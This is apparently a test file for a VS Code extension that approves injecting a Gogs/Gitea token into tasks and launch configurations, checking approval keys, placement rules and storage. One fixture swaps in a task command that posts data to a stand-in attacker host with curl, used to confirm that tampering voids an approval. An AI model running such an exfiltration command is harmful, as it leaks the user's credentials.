import * as assert from 'node:assert/strict';
import {
  APPROVALS_STATE_KEY,
  ApprovalStore,
  approvalKey,
  canonicalJson,
  classifyUses,
  ConfigSource,
  describeCall,
  TOKEN_VARIABLE,
} from '../../../src/inject/approvals';
import { MemoryMemento } from '../../support/memoryBackends';

const task = (label: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
  label,
  type: 'shell',
  command: './deploy.sh',
  options: { env: { GOGS_TOKEN: TOKEN_VARIABLE } },
  ...extra,
});
const tasks = (...items: unknown[]): ConfigSource => ({ kind: 'tasks', items, inputs: [] });

describe('inject/approvals', () => {
  describe('canonicalJson', () => {
    it('does not depend on key order and drops VS Code bookkeeping keys', () => {
      assert.equal(canonicalJson({ b: 1, a: { d: [1, { y: 2, x: 1 }], c: 3 } }), canonicalJson({ a: { c: 3, d: [1, { x: 1, y: 2 }] }, b: 1, __configurationTarget: 5 }));
    });
  });

  describe('approval keys', () => {
    it('are SHA-256 hex and differ by configuration and by env var', () => {
      const k = approvalKey('{"a":1}', 'GOGS_TOKEN');
      assert.match(k, /^[0-9a-f]{64}$/);
      assert.equal(k, approvalKey('{"a":1}', 'GOGS_TOKEN'));
      assert.notEqual(k, approvalKey('{"a":2}', 'GOGS_TOKEN'));
      assert.notEqual(k, approvalKey('{"a":1}', 'GITEA_TOKEN'));
    });

    it('for a launch configuration: same config in another key order → same key; changed program → new key', () => {
      const cfg = { type: 'node', request: 'launch', name: 'Deploy', program: 'a.js', env: { GOGS_TOKEN: TOKEN_VARIABLE } };
      const same = { env: { GOGS_TOKEN: TOKEN_VARIABLE }, program: 'a.js', name: 'Deploy', request: 'launch', type: 'node', __sessionId: 'x' };
      const changed = { ...cfg, program: 'evil.js' };
      const d1 = describeCall(cfg, []);
      assert.equal(d1.via, 'launch');
      assert.equal(d1.label, 'launch configuration "Deploy"');
      assert.deepEqual(d1.envKeys, ['GOGS_TOKEN']);
      assert.equal(approvalKey(d1.identity, 'GOGS_TOKEN'), approvalKey(describeCall(same, []).identity, 'GOGS_TOKEN'));
      assert.notEqual(d1.identity, describeCall(changed, []).identity);
    });

    it('for a task: VS Code passes only the variables, so the tasks that use the variable are the identity', () => {
      const vars = [TOKEN_VARIABLE, '/abs/workspace'];
      const before = describeCall(vars, [tasks(task('deploy'), { label: 'lint', type: 'shell', command: 'eslint .' })]);
      assert.equal(before.via, 'task');
      assert.equal(before.label, 'task "deploy"');
      assert.deepEqual(before.envKeys, ['GOGS_TOKEN']);
      // A pull that changes the task's command is a new configuration...
      const after = describeCall(vars, [tasks(task('deploy', { command: 'curl -d @- https://attacker.invalid' }))]);
      assert.notEqual(before.identity, after.identity);
      // ...an unrelated task is not.
      const unrelated = describeCall(vars, [tasks(task('deploy'), { label: 'lint', type: 'shell', command: 'eslint --fix .' })]);
      assert.equal(before.identity, unrelated.identity);
      // Resolved (non-variable) entries do not change it.
      assert.equal(before.identity, describeCall([TOKEN_VARIABLE, '/elsewhere'], [tasks(task('deploy'))]).identity);
    });

    it('for an input of type command: the args name the token and the configurations using the input are the identity', () => {
      const src: ConfigSource = {
        kind: 'launch',
        items: [{ type: 'node', request: 'launch', name: 'Run', env: { GITEA_TOKEN: '${input:giteaToken}' } }],
        inputs: [{ id: 'giteaToken', type: 'command', command: 'gogsKeyHygiene.tokenValue', args: { token: 'GITEA_TOKEN' } }],
      };
      const d = describeCall({ token: 'GITEA_TOKEN' }, [src]);
      assert.equal(d.via, 'input');
      assert.equal(d.explicitToken, 'GITEA_TOKEN');
      assert.equal(d.label, 'launch configuration "Run"');
      assert.deepEqual(d.envKeys, ['GITEA_TOKEN']);
      const other = describeCall({ token: 'GITEA_TOKEN' }, [{ ...src, items: [{ ...(src.items[0] as object), program: 'other.js' }] }]);
      assert.notEqual(d.identity, other.identity);
    });

    it('a direct call (panel, another extension) is its own identity', () => {
      const d = describeCall('some-id', []);
      assert.equal(d.via, 'direct');
      assert.equal(d.explicitToken, 'some-id');
      assert.notEqual(d.identity, describeCall('other-id', []).identity);
    });
  });

  describe('placement', () => {
    it('accepts env blocks (tasks options.env, launch env, cppdbg environment) and names the env var', () => {
      assert.deepEqual(classifyUses(task('t'), TOKEN_VARIABLE), { envKeys: ['GOGS_TOKEN'], misplaced: [] });
      assert.deepEqual(classifyUses({ env: { A: `prefix-${TOKEN_VARIABLE}` } }, TOKEN_VARIABLE).envKeys, ['A']);
      assert.deepEqual(classifyUses({ environment: [{ name: 'GOGS_TOKEN', value: TOKEN_VARIABLE }] }, TOKEN_VARIABLE), {
        envKeys: ['GOGS_TOKEN'],
        misplaced: [],
      });
    });

    it('refuses the variable in command, args or an env key name', () => {
      const bad = task('push', { command: `git push https://u:${TOKEN_VARIABLE}@h/r.git`, args: ['--token', TOKEN_VARIABLE] });
      const d = describeCall([TOKEN_VARIABLE], [tasks(bad)]);
      assert.deepEqual(d.misplaced, ['task "push" → command', 'task "push" → args[1]']);
      assert.deepEqual(classifyUses({ env: { [TOKEN_VARIABLE]: 'x' } }, TOKEN_VARIABLE).misplaced, ['env.' + TOKEN_VARIABLE + '.{key}']);
      const launch = describeCall({ type: 'node', request: 'launch', name: 'L', runtimeArgs: [TOKEN_VARIABLE] }, []);
      assert.deepEqual(launch.misplaced, ['launch configuration "L" → runtimeArgs[0]']);
    });
  });

  describe('ApprovalStore', () => {
    it('remembers keys in workspaceState, never anything else, and forgets them all', async () => {
      const memento = new MemoryMemento();
      const store = new ApprovalStore(memento);
      const k = approvalKey('x', 'GOGS_TOKEN');
      assert.equal(store.has(k), false);
      await store.add(k);
      await store.add(k);
      assert.equal(store.has(k), true);
      assert.deepEqual(memento.data.get(APPROVALS_STATE_KEY), [k]);
      assert.equal(await store.clear(), 1);
      assert.equal(store.has(k), false);
      assert.equal(store.size, 0);
    });
  });
});
